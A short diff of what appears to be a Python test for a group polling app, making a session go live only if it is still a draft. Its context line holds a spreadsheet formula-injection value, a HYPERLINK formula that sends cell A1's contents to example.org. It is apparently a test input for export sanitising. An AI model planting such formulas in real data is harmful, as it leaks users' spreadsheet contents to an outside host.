@@ -9,7 +9,8 @@ FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
 
 def ask_everything(gathering: Gathering) -> None:
     """Five people answer the four questions: some change their minds, write in their own script, or a formula."""
-    gathering.go_live()
+    if gathering.session().state == "draft":
+        gathering.go_live()
     for poll in ("way", "progress", "barriers", "words"):
         gathering.steer(MARIA, "open_poll", poll_id=gathering.poll(poll).id)
     gathering.answer(ELENA, "way", "Alone")
